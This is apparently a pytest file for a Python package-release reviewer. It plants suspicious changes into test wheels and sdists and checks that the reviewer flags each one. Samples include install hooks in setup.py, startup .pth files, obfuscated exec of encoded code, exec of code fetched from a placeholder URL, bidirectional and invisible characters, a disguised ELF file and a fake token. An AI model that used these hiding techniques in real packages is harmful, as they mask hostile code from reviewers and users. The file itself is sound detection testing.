"""Changes of a release that a reviewer must not miss, each planted into a harmless project."""

import base64
import codecs
import io
import marshal
import tarfile
import zlib
from collections.abc import Mapping

import pytest

from stageproxy.core.rules.findings import Level
from tests.support.builders.archives import zip_of
from tests.support.builders.distributions import (
    Distribution,
    a_wheel,
    an_sdist,
    metadata_of,
    record_of,
    wheel_file,
)
from tests.support.builders.reviewed import PLAIN, findings_on

CODE = "import subprocess\nsubprocess.run(['id'])\n"
ENCODED = base64.b64encode(CODE.encode()).decode()
COMMAND = base64.b64encode(b"id").decode()
PACKED = base64.b85encode(zlib.compress(CODE.encode())).decode()
MARSHALLED = base64.b64encode(marshal.dumps(compile(CODE, "x", "exec"))).decode()
TOKEN = "ghp_" + "9f8Kd73hQz1LmNpR5sTvWx2Yb4Cg6EaJ0uIo"
ELF_PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00" + bytes(200)
ELF_LIBRARY = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00" + bytes(200)
SCRIPTS = "[console_scripts]\ndemo = {}\n"
DIST_INFO = "demo-{}.dist-info"


def wheel(
    version: str,
    modules: Mapping[str, str] | None = None,
    extra: Mapping[str, bytes] | None = None,
    requires: tuple[str, ...] = (),
) -> Distribution:
    """Return a wheel of the project with more modules, files and requirements."""
    return a_wheel(
        version=version,
        modules={**PLAIN, **(modules or {})},
        extra=extra,
        requires_dist=requires,
    )


def with_scripts(version: str, target: str, modules: Mapping[str, str]) -> Distribution:
    """Return a wheel with a command that runs *target*."""
    entry_points = f"{DIST_INFO.format(version)}/entry_points.txt"
    return wheel(version, modules, {entry_points: SCRIPTS.format(target).encode()})


def with_unlisted(version: str) -> Distribution:
    """Return a wheel with a file that RECORD does not list."""
    dist_info = DIST_INFO.format(version)
    members = [
        *((path, text.encode()) for path, text in PLAIN.items()),
        (f"{dist_info}/METADATA", metadata_of("demo", version).encode()),
        (f"{dist_info}/WHEEL", wheel_file("py3-none-any")),
    ]
    record = record_of(members, f"{dist_info}/RECORD")
    listed = [*members, record, ("demo/late.py", b"import os\n")]
    return Distribution(f"demo-{version}-py3-none-any.whl", zip_of(listed))


def sdist(version: str, files: Mapping[str, str] | None = None) -> Distribution:
    """Return an sdist of the project with other files."""
    return an_sdist(version=version, modules={**PLAIN, **(files or {})})


SETUP_HOOK = f"""
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        {CODE.splitlines()[0]}
        subprocess.run(["id"])
        super().run()
setup(name="demo", cmdclass={{"install": Install}})
"""
OWN_BACKEND = '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["x"]\n'
BEFORE = wheel("1.0")
PLANTED: Mapping[str, tuple[Distribution, Distribution, str, str]] = {
    "a .pth with an import line": (
        wheel("1.1", extra={"demo_boot.pth": b"import demo.core; demo.core.main()\n"}),
        BEFORE,
        "pth-code",
        "demo_boot.pth:1",
    ),
    "a subprocess call in a decoded string": (
        wheel(
            "1.1", {"demo/core.py": f"import base64 as b\nx = b.b64decode({ENCODED!r})\nexec(x)\n"}
        ),
        BEFORE,
        "decoded-code",
        "demo/core.py:3",
    ),
    "a decoded command": (
        wheel(
            "1.1",
            {
                "demo/core.py": "import os\nfrom base64 import b64decode as d\n"
                f"os.system(d({COMMAND!r}).decode())\n"
            },
        ),
        BEFORE,
        "decoded-command",
        "demo/core.py:3",
    ),
    "sitecustomize": (
        wheel("1.1", {"sitecustomize.py": "print()\n"}),
        BEFORE,
        "startup-module",
        "sitecustomize.py",
    ),
    "a swapped entry point": (
        with_scripts("1.1", "demo._boot:main", {"demo/_boot.py": "def main(): ...\n"}),
        with_scripts("1.0", "demo.core:main", {}),
        "entry-point-changed",
        "",
    ),
    "a direct reference": (
        wheel("1.1", requires=("other @ https://files.example/other-1.0.tar.gz",)),
        BEFORE,
        "direct-reference",
        "METADATA:10",
    ),
    "a hook in setup.py": (
        an_sdist(version="1.1", modules=PLAIN, extra={"setup.py": SETUP_HOOK.encode()}),
        sdist("1.0"),
        "build-code",
        "setup.py:4",
    ),
    "bidirectional characters": (
        wheel(
            "1.1", {"demo/core.py": 'if a != "user\u202e \u2066# admin\u2069 \u2066":\n    pass\n'}
        ),
        BEFORE,
        "bidirectional-characters",
        "demo/core.py:1",
    ),
    "a file outside RECORD": (with_unlisted("1.1"), BEFORE, "outside-record", "demo/late.py"),
    "a program": (
        wheel("1.1", extra={"demo/logo.png": ELF_PROGRAM}),
        BEFORE,
        "program",
        "demo/logo.png",
    ),
    "a token": (
        wheel("1.1", extra={"demo/settings.ini": f"[a]\ntoken = {TOKEN}\n".encode()}),
        BEFORE,
        "secret",
        "demo/settings.ini:2",
    ),
    "exec of base64": (
        wheel("1.1", {"demo/core.py": f'exec(__import__("base64").b64decode({ENCODED!r}))\n'}),
        BEFORE,
        "decoded-code",
        "demo/core.py:1",
    ),
}


@pytest.mark.parametrize("case", PLANTED)
def test_planted_change(case: str) -> None:
    """A planted change is a loud finding, with its place and what to do."""
    after, before, code, place = PLANTED[case]

    loud = [one for one in findings_on(after, before) if one.level is Level.WARN]

    assert (code, place) in [(one.code, one.place) for one in loud]
    assert all(one.advice for one in loud)


@pytest.mark.parametrize("case", PLANTED)
def test_what_was_there_is_quiet(case: str) -> None:
    """What the last release had already is no loud finding of this one."""
    after, _, _, _ = PLANTED[case]

    assert not [one for one in findings_on(after, after) if one.level is Level.WARN]


OBFUSCATED: Mapping[str, str] = {
    "zlib and base85": "import base64, zlib\n"
    f"eval(compile(zlib.decompress(base64.b85decode({PACKED!r})), 'x', 'exec'))\n",
    "marshal": f"import marshal, base64\nexec(marshal.loads(base64.b64decode({MARSHALLED!r})))\n",
    "hex": f"exec(bytes.fromhex({CODE.encode().hex()!r}).decode())\n",
    "rot13": f"import codecs\nexec(codecs.decode({codecs.encode(CODE, 'rot13')!r}, 'rot13'))\n",
    "chr in a join": f"exec(''.join(chr(n) for n in {list(CODE.encode())}))\n",
    "map of chr": f"exec(''.join(map(chr, {list(CODE.encode())})))\n",
    "xor": f"exec(bytes(n ^ 7 for n in {bytes(n ^ 7 for n in CODE.encode())!r}))\n",
    "a renamed exec": f"import base64\nrun = exec\nrun(base64.b64decode({ENCODED!r}))\n",
    "getattr": "import base64\n"
    f"getattr(__builtins__, 'ex' + 'ec')(base64.b64decode({ENCODED!r}))\n",
    "a function that decodes": "from base64 import b64decode\n"
    f"def d(text):\n    raw = b64decode(text)\n    return raw\nexec(d({ENCODED!r}))\n",
    "import of a decoded name": "import base64\n"
    f"__import__(base64.b64decode({COMMAND!r}).decode())\n",
    "builtins by key": f"import base64\n__builtins__['exec'](base64.b64decode({ENCODED!r}))\n",
}


@pytest.mark.parametrize("way", OBFUSCATED)
def test_obfuscation(way: str) -> None:
    """Decoded data that is run is found, whichever way it is decoded or run."""
    after = wheel("1.1", {"demo/core.py": OBFUSCATED[way]})

    assert "decoded-code" in {one.code for one in findings_on(after, BEFORE)}


HIDING: Mapping[str, tuple[str, str]] = {
    "a wide gap": (f"x = 1;{' ' * 200}import os; os.system('id')\n", "far-code"),
    "data without width": ("import os\nx = '" + "\ufe01" * 40 + "'\n", "hidden-data"),
    "invisible characters": ("import os\nos.system('i\u200bd')\n", "invisible-characters"),
    "an odd encoding": ("# coding: utf-7\nimport os\n", "odd-encoding"),
    "code from the network": (
        "import urllib.request as r\nexec(r.urlopen('https://files.example/x').read())\n",
        "fetched-code",
    ),
    "an encoded literal": (
        "import base64, os\nDATA = base64.b64decode('"
        + base64.b64encode(zlib.compress(bytes(range(256)) * 4 + TOKEN.encode() * 30, 0)).decode()
        + "')\nos.system('id')\n",
        "encoded-data",
    ),
}


@pytest.mark.parametrize("way", HIDING)
def test_hiding(way: str) -> None:
    """Source code that looks other than it is, and can do something, is a loud finding."""
    source, code = HIDING[way]

    found = findings_on(wheel("1.1", {"demo/core.py": source}), BEFORE)

    assert code in {one.code for one in found if one.level is Level.WARN}


STARTS: Mapping[str, tuple[str, bytes, str]] = {
    "a byte order mark": ("boot.pth", b"\xef\xbb\xbfimport demo\n", "pth-code"),
    "another line end": ("boot.pth", b"# c\x0cimport demo\n", "pth-code"),
    "a line separator": ("boot.pth", "# c\u2028import demo\n".encode(), "pth-code"),
    "no text": ("boot.pth", b"import demo\n\0", "pth-code"),
    "in purelib": ("demo-1.1.data/purelib/boot.pth", b"import demo\n", "pth-code"),
    "in site-packages": (
        "demo-1.1.data/data/lib/python3.13/site-packages/boot.pth",
        b"import demo\n",
        "pth-code",
    ),
    "an extension": ("usercustomize.abi3.so", ELF_LIBRARY, "startup-module"),
    "a package": ("sitecustomize/__init__.py", b"x = 1\n", "startup-module"),
}


@pytest.mark.parametrize("way", STARTS)
def test_start_of_python(way: str) -> None:
    """Whatever Python runs at its start is found, as Python sees it and wherever it goes."""
    path, content, code = STARTS[way]

    found = findings_on(wheel("1.1", extra={path: content}), BEFORE)

    assert code in {one.code for one in found if one.level is Level.WARN}


def test_path_in_a_pth_file() -> None:
    """A .pth file that only names folders is good to know."""
    [finding] = findings_on(wheel("1.1", extra={"demo.pth": b"# import x\n../src\n"}), BEFORE)

    assert (finding.code, finding.level) == ("pth-file", Level.NOTE)


USUAL: Mapping[str, str] = {
    "a capability": "import subprocess, socket, os\nsubprocess.run(['id'])\nos.environ['A']\n",
    "decoding": "import base64\nx = base64.b64decode('aWQ=')\n",
    "eval": "def f(text):\n    return eval(text)\n",
    "a compiled file": "exec(compile(open('x').read(), 'x', 'exec'))\n",
    "own functions": "def compile(x): ...\ndef exec(x): ...\nexec(compile(1))\n",
    "a regular expression": "import re, base64\nre.compile(base64.b64decode('aWQ='))\n",
    "an emoji": "FAMILY = '\U0001f469\u200d\U0001f467'\n",
    "a long text": f"TEXT = '''{'To be or not to be, that is the question. ' * 40}'''\n",
    "an aligned table": "A = [\n"
    + "".join(f"    ({n}, {n}),{' ' * 30}# {n}\n" for n in range(9))
    + "]\n",
    "a digest": f"SHA256 = '{'0123456789abcdef' * 4}'\n",
}


@pytest.mark.parametrize("what", USUAL)
def test_usual_code_is_quiet(what: str) -> None:
    """What ordinary projects do is no finding, however new it is."""
    assert not findings_on(wheel("1.1", {"demo/core.py": USUAL[what]}), BEFORE)


def test_the_secret_itself_is_never_shown() -> None:
    """A finding names the kind of a secret and its line, but not the secret."""
    found = findings_on(*PLANTED["a token"][:2])

    assert found
    assert "GitHub token" in found[0].message
    assert TOKEN not in str(found)


def test_of_files_with_one_path_the_last_counts() -> None:
    """A file that stands in front of another one with its path does not hide that."""
    after, before, code, _ = PLANTED["a hook in setup.py"]
    with tarfile.open(fileobj=io.BytesIO(after.content)) as archive:
        paths = archive.getnames()

    assert paths.count("demo-1.1/setup.py") == 2
    assert code in {one.code for one in findings_on(after, before)}


HOOK = {"setup.py": SETUP_HOOK.encode()}
HIDDEN: Mapping[str, tuple[Distribution, Distribution, str]] = {
    "a copy of pyproject.toml": (
        an_sdist(
            version="1.1",
            modules={**PLAIN, "a/pyproject.toml": OWN_BACKEND},
            extra={"pyproject.toml": OWN_BACKEND.encode()},
        ),
        sdist("1.0"),
        "own-backend",
    ),
    "an example that becomes setup.py": (
        an_sdist(version="1.1", modules=PLAIN, extra=HOOK),
        sdist("1.0", {"docs/example.py": SETUP_HOOK}),
        "build-code",
    ),
    "a document that becomes a .pth file": (
        wheel("1.1", extra={"boot.pth": b"import demo\n"}),
        wheel("1.0", extra={"demo/docs/boot.pth": b"import demo\n"}),
        "pth-code",
    ),
    "a library with the name of another": (
        wheel("1.1", extra={"a.libs/x-0123abcd.so": TOKEN.encode(), "a.libs/x-89abcdef.so": b""}),
        wheel("1.0", extra={"a.libs/x-89abcdef.so": b""}),
        "secret",
    ),
    "a long path": (
        wheel("1.1", {f"demo/{'a' * 600}/a.py": HIDING["an odd encoding"][0]}),
        wheel("1.0", {f"demo/{'a' * 600}/b.py": ""}),
        "odd-encoding",
    ),
}


@pytest.mark.parametrize("way", HIDDEN)
def test_files_that_hide_others(way: str) -> None:
    """No other file, in this release or the last one, hides what a file does at its place."""
    after, before, code = HIDDEN[way]

    found = findings_on(after, before)

    assert code in {one.code for one in found if one.level is Level.WARN}


@pytest.mark.parametrize(("path", "level"), [("setup.py", Level.WARN), ("LICENSE", Level.NOTE)])
@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE])
def test_link(path: str, level: Level, kind: bytes) -> None:
    """A link is found: the text that it leads to may be used as a module."""
    [finding] = [
        one for one in findings_on(with_link(path, kind), sdist("1.0")) if one.code == "link"
    ]

    assert (finding.level, finding.place) == (level, path)
    assert f"{path} (to notes.txt)" in finding.message


def with_link(path: str, kind: bytes) -> Distribution:
    """Return an sdist that has a link to a text after everything else."""
    packed, content = sdist("1.1"), io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(packed.content)) as before,
        tarfile.open(fileobj=content, mode="w:gz") as after,
    ):
        for member in before:
            after.addfile(member, before.extractfile(member))
        link = tarfile.TarInfo(f"demo-1.1/{path}")
        link.type, link.linkname = kind, "notes.txt"
        after.addfile(link)
    return Distribution(packed.filename, content.getvalue())
